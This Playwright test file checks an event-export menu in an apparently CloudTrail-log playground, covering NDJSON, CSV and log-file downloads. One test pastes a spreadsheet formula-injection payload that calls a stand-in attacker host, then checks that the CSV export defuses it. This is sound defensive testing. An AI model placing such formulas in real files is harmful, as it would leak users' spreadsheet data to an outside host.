// Out again: the events that matter are taken away as a file, and the file holds what the page shows.
import { readFileSync } from 'node:fs';
import type { Download } from '@playwright/test';
import Papa from 'papaparse';
import { Playground } from './playground';
import { expect, test } from './test';

const name = 'Export events';

async function textOf(download: Download): Promise<string> {
  return readFileSync(await download.path(), 'utf8');
}

/** By mouse, from the part of the menu that is about these events. */
async function take(playground: Playground, events: string, form: RegExp): Promise<Download> {
  const { page, stagesPane } = playground;
  const file = page.waitForEvent('download');
  await stagesPane.getByRole('button', { name }).click();
  const group = page.getByRole('menu', { name }).getByRole('group', { name: events, exact: true });
  await group.getByRole('menuitem', { name: form }).click();
  return file;
}

/** What stands at the head of each row: `3 SendCommand`. */
const shownIn = async (playground: Playground): Promise<string[]> => {
  const heads = await playground.grid.getByRole('rowheader').allInnerTexts();
  return heads.map((text) => text.split('\n').slice(0, 2).join(' '));
};

interface Record {
  readonly eventName: string;
  readonly errorCode?: string;
}

test('takes the matching events as NDJSON, and opens them again', async ({ page }) => {
  const playground = new Playground(page);
  await playground.open();
  const download = await take(playground, '3 matching events', /^NDJSON/);
  expect(download.suggestedFilename()).toMatch(/^matching-[a-z0-9_-]+\.ndjson$/);
  const said = page.getByRole('contentinfo').getByRole('status');
  await expect(said.last()).toHaveText('Downloaded 3 events as NDJSON');
  const content = await textOf(download);
  const records = content
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Record);
  await playground.stagesPane.getByRole('button', { name: 'Match 3', exact: true }).click();
  await expect(playground.grid.getByRole('rowheader')).toHaveCount(3);
  const shown = await shownIn(playground);
  expect(records).toHaveLength(3);
  records.forEach(({ eventName }, i) => expect(shown[i]).toContain(eventName));
  await playground.openFiles({ name: 'again.ndjson', content });
  await expect(playground.stagesPane).toContainText('NDJSON, 3 records');
  await expect(playground.grid.getByRole('gridcell', { name: 'match', exact: true })).toHaveCount(
    3,
  );
});

test('takes what is left after a filter, in its order, as a log file', async ({ page }) => {
  const playground = new Playground(page);
  await playground.open();
  await playground.stagesPane.getByRole('searchbox').fill('denied');
  await playground.grid.getByRole('button', { name: /time/i }).click();
  await playground.grid.getByRole('button', { name: /time/i }).click();
  const shown = await shownIn(playground);
  expect(shown.length).toBeGreaterThan(1);
  expect(shown.length).toBeLessThan(12);
  const download = await take(playground, `${shown.length} events shown`, /^CloudTrail log file/);
  expect(download.suggestedFilename()).toBe('example-shown.json');
  const { Records } = JSON.parse(await textOf(download)) as { Records: Record[] };
  expect(Records).toHaveLength(shown.length);
  Records.forEach(({ eventName, errorCode }, i) => {
    expect(shown[i]).toContain(eventName);
    expect(errorCode).toMatch(/denied|unauthorized/i);
  });
});

test('takes the table as CSV: every light is in it', async ({ page }) => {
  const playground = new Playground(page);
  await playground.open();
  const download = await take(playground, '12 events shown', /^CSV/);
  expect(download.suggestedFilename()).toBe('example-events.csv');
  const content = await textOf(download);
  expect(content.startsWith('\uFEFFevent,time,event name,service,principal,error code,')).toBe(
    true,
  );
  const { data } = Papa.parse<string[]>(content.slice(1), { skipEmptyLines: true });
  const [head = [], ...rows] = data;
  expect(rows).toHaveLength(12);
  const stages = head.slice(head.indexOf('verdict') + 1);
  expect(stages.length).toBeGreaterThan(1);
  for (const [i, row] of rows.entries()) {
    const [verdict, ...lights] = row.slice(head.indexOf('verdict'));
    const words = [verdict, ...lights.map((light, s) => `${stages[s]}: ${light}`)];
    expect(words).toEqual(await playground.lights(i + 1));
    expect(row[0]).toBe(String(i + 1));
  }
});

test('keeps long integers, and leaves a spreadsheet nothing to calculate', async ({ page }) => {
  const playground = new Playground(page);
  await playground.open();
  const evil = `=HYPERLINK("https://attacker.example/?"&A1,"a\nb")`;
  const line = `{"2":0,"1":12345678901234567890,"eventName":${JSON.stringify(evil)}}`;
  await playground.paste(line);
  await expect(playground.grid.getByRole('rowheader')).toHaveCount(1);
  expect(await textOf(await take(playground, '1 event shown', /^NDJSON/))).toBe(`${line}\n`);
  const content = await textOf(await take(playground, '1 event shown', /^CSV/));
  expect(content).toContain(`,"'=HYPERLINK(""https://attacker.example/?""&A1,""a\nb"")",`);
});

test('by keyboard; the menu is gone with the events', async ({ page, witness }) => {
  const playground = new Playground(page);
  await playground.open();
  const button = playground.stagesPane.getByRole('button', { name });
  await button.focus();
  const before = witness.requests.filter((url) => !url.startsWith('blob:'));
  await page.keyboard.press('Enter');
  await expect(page.getByRole('menuitem', { name: /^NDJSON/ }).first()).toBeFocused();
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('ArrowDown');
  await expect(page.getByRole('menuitem', { name: /^CSV/ }).first()).toBeFocused();
  const file = page.waitForEvent('download');
  await page.keyboard.press('Enter');
  expect((await file).suggestedFilename()).toMatch(/^matching-.*\.csv$/);
  await expect(button).toBeFocused();
  await expect(page.getByRole('menu')).toHaveCount(0);
  // Taking it asks nobody.
  expect(witness.requests.filter((url) => !url.startsWith('blob:'))).toEqual(before);
  await playground.stagesPane.getByRole('button', { name: 'Clear' }).click();
  await expect(playground.stagesPane.getByText('No events')).toBeVisible();
  await expect(button).toHaveCount(0);
});
